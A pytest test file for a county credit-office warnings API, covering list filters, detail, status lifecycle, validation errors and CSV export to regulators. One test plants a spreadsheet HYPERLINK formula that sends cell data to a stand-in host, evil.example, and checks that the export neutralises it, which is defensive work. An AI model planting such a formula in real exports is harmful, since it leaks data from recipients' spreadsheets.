"""Credit-office warning routes: list with filters and totals, detail, lifecycle, 通报 export."""

from __future__ import annotations

import csv
import io
import logging
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from risk.store import contract_table
from risk.warnings import NOTICE_COLUMNS, list_warnings, notice_frame
from serving.crud import NO_LEARNED_ORDER_NO_CHAMPION, NO_LEARNED_ORDER_NO_SET
from serving.roles import KeyRole
from serving.web.warning_pages import LEVEL_ORDER_NOTE
from tests.serving.conftest import ApiCounty


@pytest.fixture(scope="module")
def api_county(own_county: ApiCounty) -> ApiCounty:
    """This module moves warnings along their lifecycle: a county of its own."""
    return own_county


@pytest.fixture
def office(api_county: ApiCounty) -> dict[str, str]:
    return api_county.headers(KeyRole.credit_office)


def test_list_matches_the_store_with_total_and_pages(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    everything = list_warnings(api_county.engine, limit=1000)
    body = client.get("/v1/warnings", headers=office).json()
    # 17: the county's 疑似换壳 of firms founded on or before their associate's listing
    # (8 of them) are no longer warnings (issue 15).
    assert body["total"] == everything.total == 17
    assert [w["id"] for w in body["items"]] == [w.id for w in everything.items]
    first = body["items"][0]
    assert {"rule_label", "level_label", "status_label", "record_ids"} <= set(first)
    assert "evidence" not in first

    pages = [
        client.get("/v1/warnings", params={"limit": 10, "offset": o}, headers=office).json()
        for o in (0, 10, 20)
    ]
    assert all(p["total"] == 17 for p in pages)
    assert [w["id"] for p in pages for w in p["items"]] == [w.id for w in everything.items]


@pytest.mark.parametrize(
    "params",
    [
        {"level": "orange"},
        {"level": ["red", "yellow"]},
        {"rule": "suspected_shell"},
        {"domain": "taxation"},
        {"regulator": "税务局"},
        {"regulator": "natural_resources"},
        {"status": "new"},
        {"rule": "after_commitment", "regulator": "市场监管局"},
    ],
)
def test_filters_agree_with_list_warnings(
    client: TestClient, api_county: ApiCounty, office: dict[str, str], params: dict[str, Any]
) -> None:
    expected = list_warnings(api_county.engine, limit=1000, **params)
    body = client.get("/v1/warnings", params=params, headers=office).json()
    assert body["total"] == expected.total > 0
    assert [w["id"] for w in body["items"]] == [w.id for w in expected.items]


def test_since_filters_by_last_change(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    future = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert client.get("/v1/warnings", params={"since": future}, headers=office).json() == {
        "total": 0,
        "limit": 50,
        "offset": 0,
        "items": [],
        "sort_applied": "level",
        "sort_note": None,
    }
    past = client.get("/v1/warnings", params={"since": "2020-01-01"}, headers=office).json()
    assert past["total"] == 17


@pytest.mark.parametrize(
    ("params", "field", "check"),
    [
        ({"level": "purple"}, "level.0", "enum"),
        ({"rule": "nope"}, "rule.0", "enum"),
        ({"domain": "space"}, "domain", "enum"),
        ({"regulator": "外交部"}, "regulator", "regulator"),
        ({"status": "open"}, "status.0", "enum"),
        ({"since": "yesterday"}, "since", "datetime_from_date_parsing"),
        ({"limit": 0}, "limit", "greater_than_equal"),
        ({"limit": 1001}, "limit", "less_than_equal"),
        ({"offset": -1}, "offset", "greater_than_equal"),
        ({"offset": 10**20}, "offset", "less_than_equal"),
    ],
)
def test_bad_filters_are_422_naming_field_and_check(
    client: TestClient, office: dict[str, str], params: dict[str, Any], field: str, check: str
) -> None:
    response = client.get("/v1/warnings", params=params, headers=office)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert (error["code"], error["field"], error["check"]) == ("validation_error", field, check)
    assert error["details"][0]["location"] == "query"
    assert field.split(".")[0] in error["message"]


def test_detail_has_evidence_paths_and_history(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    shell = list_warnings(api_county.engine, rule="suspected_shell", limit=1).items[0]
    body = client.get(f"/v1/warnings/{shell.id}", headers=office).json()
    assert body["id"] == shell.id and body["uscc"] == shell.uscc
    assert body["evidence"]["record_ids"] == list(shell.record_ids)
    assert body["evidence"]["paths"] and "sentence" in body["evidence"]["paths"][0]
    (created,) = body["events"]
    assert created["from_status"] is None and created["to_status"] == "new"
    assert created["actor"] == "credlink"


@pytest.mark.parametrize("warning_id", ["999999", "0", "-1", "abc", "1.5", str(2**40)])
def test_unknown_or_bad_warning_ids(
    client: TestClient, office: dict[str, str], warning_id: str
) -> None:
    response = client.get(f"/v1/warnings/{warning_id}", headers=office)
    error = response.json()["error"]
    if warning_id == "999999":
        assert response.status_code == 404
        assert error["code"] == "unknown_warning"
    else:
        assert response.status_code == 422
        assert error["field"] == "warning_id" and error["details"][0]["location"] == "path"


def test_lifecycle_through_the_api(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    warning_id = list_warnings(api_county.engine, status="new", limit=1).items[0].id
    url = f"/v1/warnings/{warning_id}"
    for status, note in (
        ("dispatched", "已通报市场监管局"),
        ("acknowledged", None),
        ("closed", "  已约谈企业并完成整改 "),
    ):
        response = client.patch(url, json={"status": status, "note": note}, headers=office)
        assert response.status_code == 200, response.text
        assert response.json()["status"] == status
    events = response.json()["events"]
    assert [(e["from_status"], e["to_status"]) for e in events] == [
        (None, "new"),
        ("new", "dispatched"),
        ("dispatched", "acknowledged"),
        ("acknowledged", "closed"),
    ]
    assert {e["actor"] for e in events[1:]} == {"清源县信用办/李四"}
    assert events[-1]["note"] == "已约谈企业并完成整改"

    again = client.patch(url, json={"status": "dispatched"}, headers=office)
    assert again.status_code == 409
    error = again.json()["error"]
    assert (error["code"], error["field"], error["check"]) == (
        "illegal_transition",
        "status",
        "transition",
    )
    assert "closed warning reopens only on new evidence" in error["message"]


def test_illegal_transition_is_409_and_changes_nothing(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    warning = list_warnings(api_county.engine, status="new", limit=1).items[0]
    response = client.patch(
        f"/v1/warnings/{warning.id}", json={"status": "acknowledged"}, headers=office
    )
    assert response.status_code == 409
    assert "must be one of dispatched, closed; got 'acknowledged'" in response.text
    after = client.get(f"/v1/warnings/{warning.id}", headers=office).json()
    assert after["status"] == "new" and len(after["events"]) == 1


@pytest.mark.parametrize(
    ("body", "field", "check"),
    [
        ({"status": "closed"}, "note", "required_when_closing"),
        ({"status": "closed", "note": "   "}, "note", "required_when_closing"),
        ({"status": "done"}, "status", "enum"),
        ({}, "status", "missing"),
        ({"status": "dispatched", "note": "x\x00y"}, "note", "printable"),
        ({"status": "dispatched", "note": "x" * 2001}, "note", "string_too_long"),
        ({"status": "dispatched", "actor": "冒充"}, "actor", "extra_forbidden"),
    ],
)
def test_bad_move_bodies_are_422(
    client: TestClient,
    api_county: ApiCounty,
    office: dict[str, str],
    body: dict[str, str],
    field: str,
    check: str,
) -> None:
    warning_id = list_warnings(api_county.engine, status="new", limit=1).items[0].id
    response = client.patch(f"/v1/warnings/{warning_id}", json=body, headers=office)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert (error["field"], error["check"]) == (field, check)
    assert error["details"][0]["location"] == "body"


def test_unknown_warning_move_is_404(client: TestClient, office: dict[str, str]) -> None:
    response = client.patch("/v1/warnings/424242", json={"status": "dispatched"}, headers=office)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "unknown_warning"


@pytest.mark.parametrize("regulator", ["税务局", "taxation", "市场监管局"])
def test_export_is_the_notice_frame_as_csv(
    client: TestClient, api_county: ApiCounty, office: dict[str, str], regulator: str
) -> None:
    response = client.get("/v1/warnings/export", params={"regulator": regulator}, headers=office)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith("\ufeff".encode())  # BOM: Excel reads it as UTF-8
    frame = pd.read_csv(io.BytesIO(response.content), encoding="utf-8-sig", dtype=str)
    assert tuple(frame.columns) == NOTICE_COLUMNS
    expected = notice_frame(api_county.engine, regulator)
    assert len(frame) == len(expected) > 0
    assert frame["统一社会信用代码"].tolist() == expected["统一社会信用代码"].tolist()


def test_export_all_statuses_and_unknown_regulator(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    every = client.get(
        "/v1/warnings/export",
        params={
            "regulator": "市场监管局",
            "status": ["new", "dispatched", "acknowledged", "closed"],
        },
        headers=office,
    )
    frame = pd.read_csv(io.BytesIO(every.content), encoding="utf-8-sig", dtype=str)
    assert len(frame) == list_warnings(api_county.engine, regulator="市场监管局").total

    unknown = client.get("/v1/warnings/export", params={"regulator": "外交部"}, headers=office)
    assert unknown.status_code == 422
    error = unknown.json()["error"]
    assert (error["field"], error["check"]) == ("regulator", "regulator")
    assert "税务局 (taxation)" in error["message"] and "got '外交部'" in error["message"]
    missing = client.get("/v1/warnings/export", headers=office)
    assert missing.status_code == 422
    assert (missing.json()["error"]["field"], missing.json()["error"]["check"]) == (
        "regulator",
        "missing",
    )


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture
def formula_named(api_county: ApiCounty) -> Iterator[str]:
    """The first enterprise of 税务局's 通报 list renamed to a formula, for one test."""
    uscc = str(notice_frame(api_county.engine, "税务局")["统一社会信用代码"].iloc[0])
    enterprises = contract_table("enterprises")
    with api_county.engine.begin() as conn:
        name = conn.execute(
            select(enterprises.c.name).where(enterprises.c.uscc == uscc)
        ).scalar_one()
        conn.execute(
            update(enterprises).where(enterprises.c.uscc == uscc).values(name=FORMULA_NAME)
        )
    yield uscc
    with api_county.engine.begin() as conn:
        conn.execute(update(enterprises).where(enterprises.c.uscc == uscc).values(name=name))


def test_export_csv_is_spreadsheet_safe(
    client: TestClient, office: dict[str, str], formula_named: str
) -> None:
    response = client.get("/v1/warnings/export", params={"regulator": "税务局"}, headers=office)
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == list(NOTICE_COLUMNS)
    (row,) = [r for r in rows[1:] if r[1] == formula_named]
    assert row[0] == "'" + FORMULA_NAME
    dangerous = [c for r in rows for c in r if c.lstrip()[:1] in ("=", "+", "-", "@")]
    assert dangerous == []


# --------------------------------------------------------------------------- sort=learned


def _learned_fallback(
    client: TestClient, api_county: ApiCounty, office: dict[str, str], note: str
) -> None:
    """``sort=learned`` with nothing to sort by: the level order, said so, on the API and the
    page alike, never 503."""
    expected = [w.id for w in list_warnings(api_county.engine, limit=1000).items]
    for _ in range(3):
        response = client.get(
            "/v1/warnings", params={"sort": "learned", "limit": 1000}, headers=office
        )
        assert response.status_code == 200, response.text
        body = response.json()
        assert [w["id"] for w in body["items"]] == expected
        assert body["sort_applied"] == "level" and body["sort_note"] == note
    asked_level = client.get("/v1/warnings", params={"limit": 1000}, headers=office).json()
    assert asked_level["sort_applied"] == "level" and asked_level["sort_note"] is None

    browser = TestClient(client.app, follow_redirects=False)
    login = browser.post("/ui/login", data={"api_key": api_county.tokens[KeyRole.credit_office]})
    assert login.status_code == 303
    page = browser.get("/ui/warnings", params={"sort": "learned"})
    assert page.status_code == 200, page.text
    assert f'id="sort-note">{LEVEL_ORDER_NOTE}<' in page.text
    shown = [int(i) for i in re.findall(r'data-warning-id="(\d+)"', page.text)]
    assert shown == expected[: len(shown)] and shown
    assert 'id="sort-note"' not in browser.get("/ui/warnings").text


def test_sort_learned_without_a_learned_champion_falls_back_to_level_and_says_so(
    client: TestClient, api_county: ApiCounty, office: dict[str, str]
) -> None:
    # The module's set was computed without MLflow: no learned probabilities in it.
    _learned_fallback(client, api_county, office, NO_LEARNED_ORDER_NO_CHAMPION)


def test_sort_learned_before_any_set_falls_back_to_level_and_says_so(
    client: TestClient,
    api_county: ApiCounty,
    office: dict[str, str],
    no_score_set: None,
    caplog: pytest.LogCaptureFixture,
) -> None:
    with caplog.at_level(logging.WARNING):
        _learned_fallback(client, api_county, office, NO_LEARNED_ORDER_NO_SET)
    assert not [r for r in caplog.records if r.exc_info]  # no traceback logged for this
